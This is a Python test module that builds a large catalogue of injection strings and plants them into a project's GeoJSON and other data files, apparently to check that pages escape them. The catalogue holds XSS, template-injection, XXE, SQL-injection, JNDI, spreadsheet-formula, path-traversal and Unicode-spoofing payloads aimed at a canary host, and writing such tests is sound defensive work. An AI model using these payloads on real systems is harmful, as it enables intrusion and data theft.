"""Texts that have broken into other pages: each must be shown as itself or refused.

What one of them would do if it ran is to set ``window.__canary``, to open a dialog or to ask for
``http://canary.invalid``.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

RUN = "window.__canary=1"
URL = "http://canary.invalid/x"

SCRIPT = (
    *(f"</script><script>{RUN}</script>", f"<script>{RUN}</script>", f"</SCRIPT ><SCRIPT\t>{RUN}</SCRIPT>"),
    *(f"<script src={URL}></script>", f"<script type=module>{RUN}</script>", "<!--<script>", "<!--", "-->", "--!>"),
    *("]]>", "<![CDATA[", f"<![CDATA[<script>{RUN}</script>]]>", "<?xml version='1.0'?>", f"<?php {RUN} ?>"),
    *("</style><b>", f"</title><script>{RUN}</script>", f"</textarea><script>{RUN}</script>", "</noscript><b>"),
    *(f"<noscript><p title='</noscript><script>{RUN}</script>'>", "</template><b>", "</svg><b>", "</body></html>"),
    *("<plaintext>", "<xmp>", "</xmp><b>", "<listing>", "<base href=//canary.invalid>", "<meta http-equiv=refresh>"),
    f"<meta http-equiv=refresh content='0;url={URL}'>",
)
ATTRIBUTE = (
    *(f'" onmouseover="{RUN}', f"' onfocus='{RUN}' autofocus='", f'"><img src=x onerror="{RUN}">'),
    *(f"'><svg onload='{RUN}'>", f"x onclick={RUN} y", f'" style="background:url({URL})', f"` onclick=`{RUN}"),
    *(f"<img src=x onerror={RUN}>", f"<img src={URL}>", f"<body onload={RUN}>", f"<input autofocus onfocus={RUN}>"),
    *(f"<details open ontoggle={RUN}>", f"<video src=x onerror={RUN}>", f"<a href=javascript:{RUN}>x</a>"),
    *(f"<iframe srcdoc='<script>{RUN}</script>'>", f"<iframe src={URL}>", f"<object data={URL}>", f"<embed src={URL}>"),
    *(f"<form action={URL}><button>x", f"<link rel=stylesheet href={URL}>", f"<marquee onstart={RUN}>x</marquee>"),
    *(
        "&quot;&gt;&lt;b&gt;",
        "&#34;&#x3e;",
        "&lt;script&gt;",
        "&amp;lt;",
        "&",
        "&&",
        "&nosuch;",
        "\"'`",
        "a=b",
        "<",
        ">",
    ),
    *("< b>", "<b", "</", "<>", "<3", "a<b>c"),
)
TEMPLATE = (
    *(
        f"${{{RUN}}}",
        f"`${{{RUN}}}`",
        "${1+1}",
        "#{7*7}",
        "<%= 7*7 %>",
        "{{7*7}}",
        "{{ config }}",
        "{{ self.__class__ }}",
    ),
    *("{% raw %}", "{% endraw %}", "{% include '/etc/passwd' %}", "{#", "#}", "{%", "%}", "{{", "}}", "{{{x}}}"),
    *("{{ ''.__class__.__mro__[1].__subclasses__() }}", "{name}", "{0}", "%s", "%(name)s", "%n%n%n", "$name", "$$"),
)
ESCAPES = (
    *("\\", "\\\\", '\\"', "\\'", "\\n", "\\u003cscript\\u003e", "\\x3cb\\x3e", '","x":"', '"}]}', "\\u2028", "\\"),
    *(
        "\\3c b\\3e",
        "\\000022",
        "*/ b{}",
        "/* ",
        "//",
        f"; {RUN}//",
        f"'-{RUN}-'",
        f'"-{RUN}-"',
        "</style>*{display:none}",
    ),
    *(
        f"expression({RUN})",
        f"url(javascript:{RUN})",
        f"@import '{URL}';",
        "}*{display:none}",
        "__proto__",
        "constructor",
    ),
    *(
        "toString",
        "hasOwnProperty",
        "NaN",
        "null",
        "undefined",
        "true",
        "[object Object]",
        "0",
        "-0",
        "1e999",
        " ",
        "''",
    ),
)
ADDRESSES = (
    *(f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f"java\tscript:{RUN}", f"data:text/html,<script>{RUN}</script>"),
    *(f"vbscript:{RUN}", URL, "//canary.invalid/x", "\\\\canary.invalid\\x", "file:///etc/passwd", "../../etc/passwd"),
    *(
        "..%2f..%2f",
        "%00",
        "%3Cscript%3E",
        "%",
        "%zz",
        "%E0%A4%A",
        "?a=b&c=d#e",
        "#",
        "##",
        "/",
        "..",
        ".",
        "con",
        "a/b",
    ),
    *("=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)", '=HYPERLINK("http://canary.invalid")', "a,b;c\td", "a\r\nb"),
    *(f"<svg><script>{RUN}</script></svg>", f"<svg><a xlink:href='javascript:{RUN}'><text>x</text></a></svg>"),
    *(
        f"<svg><animate onbegin={RUN} attributeName=x>",
        f"<svg><use href='{URL}#x'></svg>",
        "<math><mtext></mtext></math>",
    ),
    *(
        "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>",
        "&y;",
        "'; DROP TABLE annotations; --",
        "${jndi:ldap://x}",
    ),
)
SIGNS = (
    *(
        "\u202egnol\u202c",
        "\u202dx",
        "\u2066x\u2069",
        "\u2067x",
        "\u200fx\u200e",
        "\u061cx",
        "a\u200bb",
        "a\u200db",
        "a\ufeffb",
    ),
    *(
        "a\u00adb",
        "\u2028line\u2029",
        "a\u0085b",
        "a\u0080b",
        "a\u009bb",
        "a\ufffeb",
        "a\uffffb",
        "a\U0001fffeb",
        "\ufffd",
    ),
    *(
        "a\x00b",
        "a\x07b",
        "a\x1bb",
        "a\x7fb",
        "a\nb",
        "a\tb",
        "\ud800",
        "a\udfffb",
        "\ud83d\ud83d",
        "Z\u0351\u036b\u0343a\u0321lgo",
    ),
    *(
        "\U0001f468\u200d\U0001f469\u200d\U0001f467",
        "\U0001f1fa\U0001f1e6",
        "ﷺ",
        "١٢٣",
        "\u0430bkhazia",
        "ｆｕｌｌ",
        "İı",
        "ß",
        "e\u0301",
    ),
    *("\ue000", "\U000e0041", "\U0010fffd", "שלום", "مرحبا", "中文", "ქართული", "ѣ"),
)
LONG = ("w" * 2000, "wide " * 400, "\u0301" * 300, "<b>" * 500, "&amp;" * 400)
HUGE = ("M" * 1_000_000, "<i>" * 330_000)

TEXTS = tuple(dict.fromkeys((*SCRIPT, *ATTRIBUTE, *TEMPLATE, *ESCAPES, *ADDRESSES, *SIGNS, *LONG)))

# some of all kinds, to stand together behind each text of a page
SHORT = (
    "</script><b>",
    "${1+1}",
    "{{7*6}}",
    "{% raw %}",
    "{#",
    "back\\slash",
    "\u202egnol\u202c",
    "\u200f",
    "`${alert(1)}`",
    "<img src=x onerror=alert(1)>",
    "&lt;&amp;",
    "\"quoted\" 'too'",
    "]]>",
    "<!--",
    "\u2028line\u2029",
)
TEXT = " | ".join(SHORT)
# the properties whose texts are a person's own
FREE = {
    *("name", "en", "ru", "aliases", "says", "note", "reference", "recognition", "by", "source", "capital"),
    *("title", "summary", "heading", "text", "question", "notes", "answer", "record", "who", "does", "thought", "but"),
    *("age", "goals", "materials", "all", "further", "exit_ticket", "references"),
}


def plant(value: Any, text: str = TEXT, key: str = "") -> Any:
    """Put a text behind every free text of a tree."""
    if isinstance(value, dict):
        return {name: plant(part, text, name) for name, part in value.items()}
    if isinstance(value, list):
        return [plant(part, text, key) for part in value]
    return f"{value} {text}" if isinstance(value, str) and key in FREE else value


def planted(folder: Path, text: str = TEXT, *names: str) -> None:
    """Put a text into every feature of a data folder, and into its other files of these names."""
    for path in [one for name in ("*.geojson", *names) for one in folder.rglob(name)]:
        path.write_text(json.dumps(plant(json.loads(path.read_text(encoding="utf-8")), text)), encoding="utf-8")
